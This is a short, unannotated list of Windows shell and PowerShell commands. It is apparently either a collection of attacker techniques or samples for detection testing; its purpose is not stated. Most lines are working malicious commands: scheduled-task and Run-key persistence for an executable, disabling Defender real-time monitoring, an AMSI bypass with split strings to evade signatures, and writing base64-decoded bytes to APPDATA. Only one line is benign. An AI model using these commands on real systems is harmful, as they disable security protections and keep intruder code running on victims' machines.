schtasks /create /sc minute /tn update /tr "c:\x\y.exe"
Set-ItemProperty -Path HKCU:\Software\Microsoft\Windows\CurrentVersion\Run -Name up -Value 'c:\x\y.exe'
Set-MpPreference -DisableRealtimeMonitoring $true
[Ref].Assembly.GetType('System.Management.Automation.Am'+'siUtils').GetField('amsiInit'+'Failed','NonPublic,Static').SetValue($null,$true)
'text' | Out-File c:\x\z.txt
[IO.File]::WriteAllBytes("$env:APPDATA\p.bin", [Convert]::FromBase64String('AAEC'))
